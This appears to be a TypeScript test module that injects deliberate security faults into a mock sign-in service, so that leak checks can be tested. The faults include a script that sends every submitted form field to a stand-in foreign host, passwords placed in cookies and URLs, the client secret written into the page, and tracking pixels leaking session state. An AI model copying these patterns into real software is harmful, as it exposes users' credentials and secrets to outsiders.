import type { Session } from '../state.ts';
import { codeIn } from './journeys.ts';
import type { Fault, Reply } from './reply.ts';
import { add, allow, copyOf, keep, redirect, repeat, script, wayOut } from './reply.ts';

/** What gets into hands that it is not for. */

const FOREIGN = 'https://metrics.example.net';
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

const detours = new WeakMap<Session, Reply>();

/** Leads by an address that holds what was typed. What was to be answered comes there. */
const detour =
  (name: 'password' | 'code'): Fault =>
  (reply, { call, session, typed }) => {
    const kept = session && call.req.query(name) !== undefined ? detours.get(session) : undefined;
    if (kept && call.req.method === 'GET') repeat(reply, kept);
    if (!session || call.req.method !== 'POST' || typed[name] === '') return;
    detours.set(session, copyOf(reply));
    redirect(reply, `${call.req.path}?${name}=${encodeURIComponent(typed[name])}`);
  };

const passwords = new WeakMap<Session, string>();

/** Tells a person what they have typed, as long as the sign-in lasts. */
const showPassword: Fault = (reply, { session, typed }) => {
  if (!session) return;
  if (typed.password) passwords.set(session, typed.password);
  const password = passwords.get(session);
  if (password !== undefined) add(reply, `<p>Your password: ${escaped(password)}</p>`);
};

/** Changes where the browser leaves to. */
const onTheWayOut =
  (change: (way: string, userId: string) => string, status?: number): Fault =>
  (reply, { service, state }) => {
    const way = wayOut(reply, service);
    const user = state?.codes.get(codeIn(way))?.user;
    if (user) redirect(reply, change(way, user.id), status);
  };

const tellAuthorize = "fetch('/v1/auth/oauth/authorize', { method: 'POST' }).catch(() => undefined);";
const onSubmit = (act: string) => `document.addEventListener('submit', ({ target }) => { ${act} });`;
const fields = '[...new FormData(target)]';

export const leaks = {
  passwordsStayOutOfCookies: (reply, { service, typed }) => {
    if (typed.password) keep(reply, service, 'remember', typed.password);
  },
  secretsStayOutOfStorage: (reply) =>
    script(reply, onSubmit(`for (const [name, value] of ${fields}) localStorage.setItem(name, value);`)),
  passwordsStayOutOfAddresses: detour('password'),
  codesStayOutOfAddresses: detour('code'),
  passwordsAreNotShown: showPassword,
  keysStayOutOfPages: (reply, { session }) =>
    add(reply, `<input type="hidden" name="client" value="${session?.client.secret ?? ''}" />`, 'form'),
  credentialsGoToNobodyElse: (reply) => {
    allow(reply, 'connect-src', FOREIGN);
    const send = `fetch('${FOREIGN}/t', { method: 'POST', mode: 'no-cors', keepalive: true, body });`;
    script(reply, onSubmit(`const body = new URLSearchParams(${fields}).toString(); ${send}`));
  },
  pagesLoadNothingForeign: (reply, { service, call, session }) => {
    const about = new URLSearchParams({ page: service.baseUrl + call.req.path, state: session?.state ?? '' });
    add(reply, `<img src="${FOREIGN}/v.gif?${escaped(about.toString())}" alt="" />`);
  },
  callbacksHaveKnownParameters: onTheWayOut((way, userId) => `${way}&user_id=${userId}`),
  callbacksHaveNoFragment: onTheWayOut((way, userId) => `${way}#user_id=${userId}`),
  redirectsLeaveTheFormBehind: onTheWayOut((way) => way, 307),
  pagesLeaveAuthorizeAlone: (reply) => {
    allow(reply, 'connect-src', "'self'");
    script(reply, tellAuthorize);
  },
} satisfies Record<string, Fault>;
